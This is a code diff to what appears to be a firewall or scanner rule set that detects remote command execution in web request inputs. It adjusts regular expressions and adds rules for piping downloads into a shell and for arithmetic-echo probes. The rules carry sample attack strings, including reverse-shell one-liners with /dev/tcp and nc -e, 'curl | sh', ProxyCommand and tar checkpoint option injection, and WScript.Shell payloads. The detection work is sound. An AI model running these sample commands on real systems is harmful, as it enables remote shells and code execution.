@@ -83,6 +83,7 @@ export const rceRules: readonly Rule[] = [
     /(?:^|[\s;|&`(<])\/\w{0,4}[?[][\w?*[\]]{0,8}\/[\w?*[\]]{1,16}(?:[\s;|&`)]|$)|(?:^|[\s=])\/(?:\w{1,8}\/)?\w{0,4}\[[!^\w/]{1,8}\]\w/,
     {
       score: 5,
+      bare: true,
       quotable: true,
       chars: CHAR.slash,
       attacks: ['/???/c?t', ';/b?n/ls'],
@@ -99,11 +100,11 @@ export const rceRules: readonly Rule[] = [
   }),
   pattern(
     'rce/ifs',
-    /\$\{?ifs(?:\b|\})|\$\{[a-z_]{0,16}(?:[#%/^@]|:[-+=?]?\w)[^}]{0,32}\}|\$\[\s{0,4}\]|\$\(\(|\$\{?(?:shell|bash|0)\}?\s{1,4}-c\b|^\s{0,4}\$\{?(?:path|home|pwd|shell)\}?[/{:]/,
+    /\$\{?ifs(?:\b|\})|\$\{[a-z_]{0,16}(?:[#%/^@]|:\d)[^}]{0,32}\}|\$\[\s{0,4}\]|\$\(\(|\$\{?(?:shell|bash|0)\}?\s{1,4}-c\b|^\s{0,4}\$\{?(?:path|home|pwd|shell)\}?[/{:]/,
     {
       score: 5,
+      bare: true,
       quotable: true,
-      spoken: true,
       chars: CHAR.dollar,
       attacks: ['cat${IFS}x', '${PATH#{}/}', '$SHELL -c "echo hi"', 'math=$[]'],
       benign: ['${name}', '$HOME is where', 'costs $5'],
@@ -114,6 +115,7 @@ export const rceRules: readonly Rule[] = [
     /\{[a-z/]{1,12},(?:-[\w-]{1,12}|[\w.*-]{0,16}\/[\w./*-]{1,32})|^\s{0,4}~[+-]\s{0,4}$|!-\d!-\d|\{[a-z]?,-[a-z]{1,4}\}/,
     {
       score: 5,
+      bare: true,
       quotable: true,
       chars: CHAR.brace | CHAR.bang,
       words: 0,
@@ -124,6 +126,7 @@ export const rceRules: readonly Rule[] = [
   ),
   pattern('rce/tilde', /^\s{0,4}~[+-]\d{0,2}\s{0,4}$/, {
     score: 5,
+    bare: true,
     atStart: true,
     chars: CHAR.plus | CHAR.dashes,
     attacks: ['~+'],
@@ -131,18 +134,31 @@ export const rceRules: readonly Rule[] = [
   }),
   pattern(
     'rce/reverse-shell',
-    /\/dev\/(?:tcp|udp)\/|\bn(?:c|cat|etcat)\b[^\n]{0,40}\s-{1,2}(?:e|exec|c)\s{1,4}[\w/]{0,12}(?:sh|cmd)|\bmkfifo\s{1,4}\/tmp|\bbash\s{1,4}-i\b|\|\s{0,4}(?:ba|z|k|da)?sh\s{0,4}$|(?:curl|wget)\s[^\n]{1,120}\|\s{0,4}(?:sudo\s{1,4})?(?:ba|z|k|da)?sh\b/,
+    /\/dev\/(?:tcp|udp)\/|\bn(?:c|cat|etcat)\b[^\n]{0,40}\s-{1,2}(?:e|exec|c)\s{1,4}[\w/]{0,12}(?:sh|cmd)|\bmkfifo\s{1,4}\/tmp|\bbash\s{1,4}-i\b/,
     {
       score: 5,
       quotable: true,
       words: WORD.shell | WORD.file,
-      attacks: ['bash -i >& /dev/tcp/1.2.3.4/99', 'nc 1.2.3.4 99 -e /bin/sh', 'curl http://x | sh'],
+      attacks: ['bash -i >& /dev/tcp/1.2.3.4/99', 'nc 1.2.3.4 99 -e /bin/sh'],
       benign: ['the bash shell', 'dev team | tcp', 'nc 8000 controller'],
     },
   ),
   pattern(
+    'rce/into-shell',
+    /\|\s{0,4}(?:ba|z|k|da)?sh\s{0,4}$|(?:curl|wget)\s[^\n]{1,120}\|\s{0,4}(?:sudo\s{1,4})?(?:ba|z|k|da)?sh\b/,
+    {
+      score: 5,
+      quotable: true,
+      bare: true,
+      chars: CHAR.pipe,
+      words: WORD.shell,
+      attacks: ['curl http://x | sh', 'x | bash'],
+      benign: ['the | shell', 'curl x | less'],
+    },
+  ),
+  pattern(
     'rce/windows',
-    /\bfor\s{0,12}(?:\/[dflr]\b[^\n]{0,40}?\s{1,12}){0,4}%{1,2}[^\s%]{0,16}\s{1,8}in\s{0,8}\(|^\s{0,4}(?:&\s{0,4})?if(?:\s{1,12}|(?=\/i))(?:\/i\s{1,12})?(?:not\s{1,12})?(?:exist\s{1,12}["\w.\\%:~-]{1,60}\s{1,12}[\w(]|defined\s{1,12}\w{1,24}\s{1,12}\w|errorlevel\s{1,12}\d|(?:["%[{][^=\n]{0,32}|\([^()=\n]{0,24}\)|\w{1,24}%?\w{0,8})\s{0,4}={2,3}\s{0,4}[^\s=]{1,32}[^=\n]{0,8}?\s{1,24}[\w(.{]|\{%?\w{0,8}\}\s{0,4}==|["(]?%?\w{1,24}%?[")]?\s{1,12}(?:equ|neq|lss|leq|gtr|geq)\s)/,
+    /\bfor\s{0,12}(?:\/[dflr]\b[^\n]{0,40}?\s{1,12}){0,4}%{1,2}[^\s%]{0,16}\s{1,8}in\s{0,8}\(|^\s{0,4}(?:&\s{0,4})?if(?!\s__name__)(?:\s{1,12}|(?=\/i))(?:\/i\s{1,12})?(?:not\s{1,12})?(?:exist\s{1,12}["\w.\\%:~-]{1,60}\s{1,12}[\w(]|defined\s{1,12}\w{1,24}\s{1,12}\w|errorlevel\s{1,12}\d|(?:["%[{][^=\n]{0,32}|\([^()=\n]{0,24}\)|\w{1,24}%?\w{0,8})\s{0,4}={2,3}\s{0,4}[^\s=]{1,32}[^=\n]{0,8}?\s{1,24}[\w(.{]|\{%?\w{0,8}\}\s{0,4}==|["(]?%?\w{1,24}%?[")]?\s{1,12}(?:equ|neq|lss|leq|gtr|geq)\s)/,
     {
       score: 5,
       words: WORD.windows,
@@ -157,7 +173,7 @@ export const rceRules: readonly Rule[] = [
   ),
   pattern(
     'rce/powershell',
-    /\b(?:invoke-(?:webrequest|expression|command|restmethod|item|shellcode|mimikatz)|new-object\s{1,4}(?:system\.|net\.)|downloadstring\s{0,4}\(|start-(?:process|bitstransfer)|set-executionpolicy|powershell(?:\.exe)?\s{1,4}-\w|get-(?:wmiobject|ciminstance|childitem|process|content)\s{1,4}[-\w])|frombase64string\s{0,4}\(|\[system\.net\.|\bcmd(?:\.exe)?\s{1,4}\/[ck]\b|%(?:comspec|systemroot|windir|username)%|[&|]\s{0,4}echo\s{1,4}%\w{2,24}%|\breg(?:\.exe)?\s{1,4}(?:query|add|save|export|delete)\s{1,4}hk/,
+    /\b(?:invoke-(?:webrequest|expression|command|restmethod|item|shellcode|mimikatz)|new-object\s{1,4}(?:system\.|net\.)|downloadstring\s{0,4}\(|start-(?:process|bitstransfer)|set-executionpolicy|powershell(?:\.exe)?\s{1,4}-\w|get-(?:wmiobject|ciminstance)\s{1,4}[-\w]|get-(?:childitem|process|content)\s{1,4}[-\w][^\n]{0,80}\|)|frombase64string\s{0,4}\(|\[system\.net\.|\bcmd(?:\.exe)?\s{1,4}\/[ck]\b|%(?:comspec|systemroot|windir|username)%|[&|]\s{0,4}echo\s{1,4}%\w{2,24}%|\breg(?:\.exe)?\s{1,4}(?:query|add|save|export|delete)\s{1,4}hk/,
     {
       score: 5,
       quotable: true,
@@ -177,6 +193,7 @@ export const rceRules: readonly Rule[] = [
     /^\s{0,4}alias\s{1,8}[\w-]{1,16}=\S|^\s{0,4}(?:echo|printf)\s[^\n]{1,80}\|\s{0,4}(?:tac|rev|base64|xxd|sh|bash|tr)\b|^[\s+|&;]{0,8}(?:dir|type|copy|del)\s{1,4}[a-z]:[/\\]/,
     {
       score: 5,
+      bare: true,
       atStart: true,
       words: WORD.shell,
       attacks: ['alias a=b', 'printf x | rev | sh', '+dir+c:/', 'dir c:/'],
@@ -209,7 +226,7 @@ export const rceRules: readonly Rule[] = [
   // A value that a program would take for one of its options, of those that name a command or a file to write.
   pattern(
     'rce/option',
-    /^\s{0,2}(?:-o\s?(?:proxycommand\s{0,2}[= ]|\/\w)|--(?:output|post-file|upload-file|output-document|log-file|outfile)[= ]\/\w|--(?:upload-pack|receive-pack|checkpoint-action|use-compress-program|to-command|use-askpass|rsh|init-file|open-files-in-pager|ext-diff|pre-invoke)\s{0,2}[= ][^\s]{1,80}\s{0,2}$)/,
+    /^\s{0,2}(?:-o\s?(?:proxycommand\s{0,2}[= ]|\/\w)|--(?:output|post-file|upload-file|output-document|log-file|outfile)[= ]\/\w|--(?:upload-pack|receive-pack|checkpoint-action|use-compress-program|to-command|use-askpass|rsh|init-file|open-files-in-pager|ext-diff|pre-invoke)\s{0,2}[= ][^\n]{1,80}$)/,
     {
       score: 5,
       atStart: true,
@@ -217,6 +234,18 @@ export const rceRules: readonly Rule[] = [
       places: ['query', 'body', 'cookie', 'header'],
       attacks: ['-oProxyCommand=id', '--output=/tmp/x', '-o/tmp/x http://x', '--checkpoint-action=exec=sh'],
       benign: ['-o', '--output=json', '--verbose', '-old'],
+    },
+  ),
+  // What tells an intruder that a command ran: a sum that only a shell works out.
+  pattern(
+    'rce/sum',
+    /\bexpr\s{1,4}\d{1,12}\s{1,4}\\?[-+*/%]\s{1,4}\d{1,12}\b|\becho\s{1,4}\$\(\(\s{0,4}\d{1,12}\s{0,4}[-+*/%]/,
+    {
+      score: 5,
+      quotable: true,
+      words: WORD.shell,
+      attacks: ["'\nexpr 8967 - 9269\n'", 'expr 1987 - 18130&&echo nginx', 'echo $((3*7))'],
+      benign: ['an expr of 2', 'expr a - b'],
     },
   ),
   pattern('rce/windows-set', /[|&;]\s{0,4}set\s{1,4}\/a\s/, {
@@ -228,11 +257,10 @@ export const rceRules: readonly Rule[] = [
   }),
   pattern(
     'rce/asp',
-    /\bev\s?al\s{0,2}\+?\(|\bexecute\(|server\.(?:scripttimeout|createobject|mappath)|wscript\.shell|createobject\s{0,4}\(/,
+    /\bev al\s{0,2}\(|\beval\s{0,2}\+?\(\s{0,2}(?:request|execute|response|[\x22'][^\x22'\n]{0,24}[\x22']\s{0,2}&)|\bexecute\s{0,2}\(\s{0,2}(?:request|[\x22'\w])|server\.(?:scripttimeout|createobject|mappath)|wscript\.shell|createobject\s{0,4}\(/,
     {
       score: 5,
       quotable: true,
-      evaluated: true,
       chars: CHAR.paren,
       words: 0,
       attacks: ['Ev al ("Ex"&"e"&"cute("")")', 'CreateObject("WScript.Shell")', 'Execute(x)'],
